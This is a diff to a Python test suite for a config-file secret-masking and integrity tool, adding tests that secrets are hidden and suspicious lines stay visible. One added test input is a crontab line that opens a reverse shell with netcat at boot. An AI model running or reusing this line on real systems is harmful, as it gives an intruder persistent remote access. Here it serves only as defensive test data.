@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import re
 import time
 from typing import Final
 
 import pytest
-from hypothesis import assume, example, given
+from hypothesis import assume, example, given, settings
 from hypothesis import strategies as st
+from tests.parts.secret_forms import FORMS
 
-from nightporter.sources.integrity.masking import LONGEST, is_harmless, masked
+from nightporter.arguments import is_port
+from nightporter.sources.integrity.masking import LONGEST, masked
+from nightporter.sources.integrity.names import is_harmless
 
 COMPOSE: Final = """
 services:
@@ -164,6 +168,31 @@ def test_no_secret_is_shown(name: str, secret: str) -> None:
     assert [line for line in shown if any(piece in line for piece in pieces)] == []
 
 
+ALL_FORMS: Final = tuple((name, form) for name, forms in FORMS.items() for form in forms)
+
+
+def leaks(name: str, form: str, secret: str) -> list[str]:
+    """The pieces of the secret that are shown of a file which holds it in this form."""
+    pieces = {secret[at : at + PIECE] for at in range(len(secret) - PIECE + 1)}
+    text = "\n".join(masked(name, form.format(s=secret)) or ())
+    return sorted(piece for piece in pieces if piece in text and piece not in form)
+
+
+@pytest.mark.parametrize(("name", "form"), ALL_FORMS)
+def test_no_form_shows_a_secret_that_looks_like_a_word(name: str, form: str) -> None:
+    for secret in ("MyDogRex2019", "hunterpass", "zq!x/@k:zyx", "-pfooobar"):
+        assert leaks(name, form, secret) == [], secret
+
+
+@settings(max_examples=400, derandomize=True)
+@given(where=st.sampled_from(ALL_FORMS), secret=SECRETS)
+def test_no_form_shows_a_secret(where: tuple[str, str], secret: str) -> None:
+    assume(not is_harmless(secret) and not is_port(secret))
+    # Where a variable may stand, what begins like one is one: its name is shown.
+    assume(not re.match(r"\W*[A-Za-z_][\w.-]*=", secret))
+    assert leaks(*where, secret) == []
+
+
 def shown(name: str, text: str) -> str:
     lines = masked(name, text)
     assert lines is not None
@@ -182,6 +211,18 @@ def shown(name: str, text: str) -> str:
         ("docker-compose.yml", '      - "traefik.http.routers.a.rule=Host(`a.example.org`)"'),
         ("docker-compose.yml", "      - --api.insecure=true"),
         ("dynamic.yml", "          - url: http://127.0.0.1:32400"),
+        ("docker-compose.yml", "    image: plex:two@sha256:0f1e"),
+        ("docker-compose.yml", '    user: "1000:1000"'),
+        ("docker-compose.yml", '    test: ["CMD", "curl", "-f", "http://localhost:32400/identity"]'),
+        ("docker-compose.yml", "    command: run -p 8080:80 -p127.0.0.1:81:81/tcp -u 1000:1000 x"),
+        ("docker-compose.yml", "      - traefik.http.routers.a.middlewares=allow@file,auth@docker"),
+        ("docker-compose.yml", "      - --certificatesresolvers.le.acme.storage=/acme/acme.json"),
+        ("docker-compose.yml", '    entrypoint: ["sh", "-c", "apk add curl && exec /init"]'),
+        ("dynamic.yml", "      middlewares: [allow@file, chain]"),
+        ("crontab", "@reboot nohup nc -e /bin/sh 203.0.113.9 4444 &"),
+        ("crontab", "0 4 * * * ada find /tmp -path /tmp/x -print -prune"),
+        ("sshd_config", "PasswordAuthentication yes"),
+        ("com.example.plist", "  <key>KeepAlive</key><true/>"),
         ("dynamic.yml", "        sourceRange: [127.0.0.1/32, 192.168.1.0/24, 0.0.0.0/0]"),
         (".env", "IP_ALLOW_LIST=127.0.0.1/32,0.0.0.0/0,2001:db8::/32"),
         (".env", "EMPTY="),
@@ -193,6 +234,18 @@ def shown(name: str, text: str) -> str:
 )
 def test_what_an_intruder_would_change_is_shown(name: str, line: str) -> None:
     assert shown(name, line) == line
+
+
+def test_whom_a_proxy_asks_for_leave_is_shown() -> None:
+    text = "fwd:\n  forwardAuth:\n    address: http://authelia:9091/api/verify\n    trustForwardHeader: true"
+    assert shown("dynamic.yml", text) == text
+
+
+def test_what_follows_a_secret_is_shown() -> None:
+    text = "password: {s}\nimage: plex:two\ncommand:\n  - --token\n  - {s}\n  - --port\n  - 80\nports: [80]"
+    assert shown("a.yml", text.format(s="hunterpass")) == text.replace("- {s}", "- ***").format(s="***")
+    element = "<key>Password</key><string>{s}</string><key>Label</key><string>com.example</string>"
+    assert shown("a.plist", element.format(s="hunterpass")) == element.format(s="***")
 
 
 def test_of_a_pinned_image_the_beginning_is_enough() -> None:
@@ -237,7 +290,31 @@ def test_any_text_keeps_its_number_of_lines(name: str, text: str) -> None:
     assert lines is None or len(lines) == len(text.splitlines())
 
 
-@pytest.mark.parametrize("piece", ["a", "a=", '"', "[", "{", "-", "a.", ":", "ab1-", "--a ", "://", "$1$"])
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "a",
+        "a=",
+        '"',
+        "[",
+        "{",
+        "-",
+        "a.",
+        ":",
+        "ab1-",
+        "--a ",
+        "://",
+        "$1$",
+        "-p",
+        '\\\\"-p',
+        "'-p \"",
+        "-u",
+        "echo ",
+        "<a>",
+        "<key>",
+        "mysql curl -u ",
+    ],
+)
 def test_it_takes_time_in_proportion(piece: str) -> None:
     line = (piece * LONGEST)[:LONGEST]
     begun = time.process_time()
